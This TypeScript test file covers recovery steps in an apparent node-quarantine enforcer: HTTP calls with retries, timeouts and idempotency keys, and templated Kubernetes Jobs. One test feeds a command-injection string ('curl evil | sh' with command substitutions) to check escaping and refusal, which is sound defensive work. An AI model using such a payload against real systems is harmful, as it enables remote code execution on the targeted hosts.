/** Recovery steps: HTTP calls against a real server, Jobs by their template and name. */

import assert from "node:assert/strict";
import { createServer, type IncomingHttpHeaders } from "node:http";
import { describe, it, type TestContext } from "node:test";
import { type Jobs, type RecoveryStep, runStep } from "../../enforcer/recovery/step.ts";
import { policySchema } from "../../enforcer/policy.ts";
import { jobOf } from "../../enforcer/recovery/job-template.ts";
import { aQuarantine } from "./fleets.ts";

const quarantine = aQuarantine("node-7.eu", "Recovering");
const noJobs: Jobs = { runJob: () => Promise.reject(new Error("no Job was asked for")) };

function step(of: object): RecoveryStep {
  return policySchema.parse({ recovery: [{ name: "reboot", ...of }] }).recovery[0]!;
}

async function server(t: TestContext, ...statuses: number[]) {
  const asked: { headers: IncomingHttpHeaders; body: string }[] = [];
  const listening = createServer((request, answer) => {
    let body = "";
    request.on("data", (chunk: Buffer) => (body += chunk.toString()));
    request.on("end", () => {
      asked.push({ headers: request.headers, body });
      const status = statuses.shift();
      if (status !== undefined) answer.writeHead(status, { "retry-after": "0" }).end("said the server");
    });
  });
  await new Promise<void>((resolve) => listening.listen(0, "127.0.0.1", resolve));
  t.after(() => listening.closeAllConnections());
  t.after(() => listening.close());
  const address = listening.address();
  assert.ok(typeof address === "object" && address !== null);
  return { url: `http://127.0.0.1:${address.port}/reboot`, asked };
}

describe("a recovery step", () => {
  it("by HTTP says what it is about, with a key that a repetition shares", async (t) => {
    const { url, asked } = await server(t, 200, 204);
    const reboot = step({ http: { url, headers: { "x-node": "{{node}}" } } });
    const { signal } = new AbortController();
    assert.deepEqual(await runStep(reboot, quarantine, noJobs, signal), { state: "succeeded" });
    assert.deepEqual(await runStep(reboot, quarantine, noJobs, signal), { state: "succeeded" });
    const [first, second] = asked;
    assert.equal(first!.headers["x-node"], "node-7.eu");
    assert.match(first!.body, /"node":"node-7\.eu".*"step":"reboot"/);
    assert.match(String(first!.headers["idempotency-key"]), /^picket-node-7-eu-reboot-[0-9a-f]{12}$/);
    assert.equal(first!.headers["idempotency-key"], second!.headers["idempotency-key"]);
  });

  it("by HTTP tries again what failed for the moment", async (t) => {
    const { url, asked } = await server(t, 503, 200);
    const outcome = await runStep(step({ http: { url } }), quarantine, noJobs, new AbortController().signal);
    assert.deepEqual(outcome, { state: "succeeded" });
    assert.equal(asked.length, 2);
  });

  it("by HTTP fails with the server's words", async (t) => {
    const { url } = await server(t, 400);
    const outcome = await runStep(step({ http: { url } }), quarantine, noJobs, new AbortController().signal);
    assert.deepEqual(outcome, { state: "failed", problem: "It answered 400: said the server" });
  });

  it("by HTTP stops when its time is over", async (t) => {
    const { url } = await server(t);
    const running = runStep(step({ http: { url } }), quarantine, noJobs, AbortSignal.timeout(50));
    await assert.rejects(running, { name: "TimeoutError" });
  });

  it("by Job fills in the template and names it after the quarantine", async () => {
    const made: [unknown, string][] = [];
    const jobs: Jobs = {
      runJob: async (job, name) => {
        made.push([job, name]);
        return { state: "running" };
      },
    };
    const template = { spec: { template: { spec: { containers: [{ args: ["--node={{node}}"] }] } } } };
    const { signal } = new AbortController();
    assert.deepEqual(await runStep(step({ job: template }), quarantine, jobs, signal), { state: "running" });
    const env = [
      { name: "PICKET_NODE", value: "node-7.eu" },
      { name: "PICKET_NODE_UID", value: "" },
      { name: "PICKET_REASON", value: "a test" },
      { name: "PICKET_SEVERITY", value: "high" },
      { name: "PICKET_QUARANTINE", value: quarantine.uid },
      { name: "PICKET_STEP", value: "reboot" },
    ];
    const container = { args: ["--node=node-7.eu"], env };
    assert.deepEqual(made[0]![0], { spec: { template: { spec: { containers: [container] } } } });
    assert.match(made[0]![1], /^[a-z0-9-]{1,63}$/);
  });

  it("by Job lets no reason become a command, nor name a secret of the container", () => {
    const reason = '"; curl evil | sh; $(TOKEN) `id` $HOME';
    const template = {
      metadata: { annotations: { why: "{{reason}}" } },
      spec: {
        initContainers: [
          {
            env: [
              { name: "WHY", value: "{{reason}}" },
              { name: "PICKET_STEP", value: "mine" },
            ],
          },
        ],
      },
    };
    const job = jobOf(template, { reason, step: "reboot" });
    const escaped = '"; curl evil | sh; $$(TOKEN) `id` $$HOME';
    const env = [
      { name: "PICKET_REASON", value: escaped },
      { name: "WHY", value: escaped },
      { name: "PICKET_STEP", value: "mine" },
    ];
    assert.deepEqual(job, { metadata: { annotations: { why: reason } }, spec: { initContainers: [{ env }] } });
  });

  for (const [what, container] of [
    ["a shell's command", { command: ["sh", "-c", "echo {{ reason }}"] }],
    ["arguments", { args: ["--reason={{reason}}"] }],
    ["arguments, by way of the environment", { args: ["-c", "echo $(PICKET_REASON)"] }],
  ] as const)
    it(`by Job is refused where the reason would be in ${what}`, () => {
      const job = { spec: { template: { spec: { containers: [container] } } } };
      assert.throws(
        () => step({ job }),
        /a reason is text that others wrote: not in a command \(spec\.template\.spec\.containers\.0\.(command\.2|args\.[01])\)/,
      );
      assert.ok(step({ job: { ...job, metadata: { annotations: { why: "{{reason}}" } }, spec: {} } }));
    });
});
